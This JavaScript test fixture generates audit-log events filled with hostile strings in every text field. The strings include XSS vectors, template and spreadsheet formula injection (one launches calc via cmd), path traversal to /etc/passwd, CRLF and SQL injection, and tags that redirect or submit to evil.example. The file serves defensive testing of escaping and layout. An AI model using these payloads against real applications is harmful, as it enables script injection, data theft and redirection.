// At least a hundred texts that are meant to run, to leave their place, or to break the layout; and events with each of
// them in every field that takes a text.

const RUN = "window.hostile=1;alert(1)";
const MARKUP = ["script", "img", "svg", "iframe", "body", "video", "details", "input", "math", "object"];
const ORIGINS = ["", '">', "'>", "</title>", "</textarea>", "-->", "]]>", "</script>", "${", "{{"];

/** What stands on its own. */
const SINGLE = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:${RUN}`,
  "${window.hostile=1}", "{{constructor.constructor('window.hostile=1')()}}", "#{window.hostile=1}", "<%= window.hostile=1 %>",
  "?lit$0123456789$", "<!--?lit$--><!--?-->", "<template shadowrootmode=open><img src=x onerror=window.hostile=1></template>",
  "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example","x")', "\r=1+1", "=1+1\";\"=2",
  "\u202Egnp.exe", "\u2066\u202E\u2069", "Z\u0351\u036B\u0343a\u030A\u0321\u031Flg\u0302o\u0315".repeat(20), "\uFDFD".repeat(40), "\u200B\u200B\u200B", "\u0007\u001b[31mred",
  "👩‍👩‍👧‍👦".repeat(20), "W".repeat(200), "i\u0307".repeat(100), "خ".repeat(120), "漢".repeat(120), "a b ".repeat(60), "\n".repeat(50), "\u2028\u2029", "…".repeat(100),
  "__proto__", "constructor", "toString", "null", "undefined", "NaN", "[object Object]", "../../../../etc/passwd", "%00%0d%0aSet-Cookie:x=1", "' OR '1'='1", "\\u003cscript\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;", "<b>bold</b>", "<style>*{display:none}</style>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><input name=x></form>",
];

/** Every payload. */
export const PAYLOADS = [
  ...SINGLE,
  ...MARKUP.flatMap((name, index) => ORIGINS.slice(index % 3, (index % 3) + 6).map((origin) => `${origin}<${name} src=x href="javascript:${RUN}" onerror="${RUN}" onload="${RUN}" ontoggle="${RUN}" onfocus="${RUN}" autofocus open><script>${RUN}</script>`)),
];

/** As many bytes of a text as fit, whole characters only. */
function cut(text, bytes) {
  let out = text;
  while (new TextEncoder().encode(out).length > bytes) out = [...out].slice(0, -1).join("");
  return out;
}

/** One event for each payload. */
export function hostileEvents() {
  return PAYLOADS.map((payload, index) => {
    const name = cut(payload, 256);
    const path = `/${payload.replaceAll("~", "~0").replaceAll("/", "~1")}`.slice(0, 300);
    return {
      id: `evt_hostile_${index}`,
      action: "document.shared",
      actor: { type: "user", id: name, name, email: name, metadata: { [payload]: payload }, on_behalf_of: { type: "user", id: name, name } },
      targets: [{ type: "document", id: name, name, href: payload, role: cut(payload, 64), metadata: { [payload]: payload } }, { type: "document", id: "shared", name: "Shared" }],
      changes: [{ path, from: payload, to: { [payload]: [payload] } }, { path: `/state${index}`, from: payload, to: `${payload}!` }],
      context: { ip: "203.0.113.9", user_agent: payload, request_id: name, session_id: name, trace_id: name, auth: { method: name, issuer: name } },
      reason: payload,
      error: { code: cut(payload, 64), message: payload },
      outcome: "failure",
      correlation_id: name,
      source: { service: name, version: name, environment: name },
      ...(index % 2 ? { description: payload } : {}),
      metadata: { [payload]: payload, nested: { list: [payload, { [payload]: payload }] } },
    };
  });
}
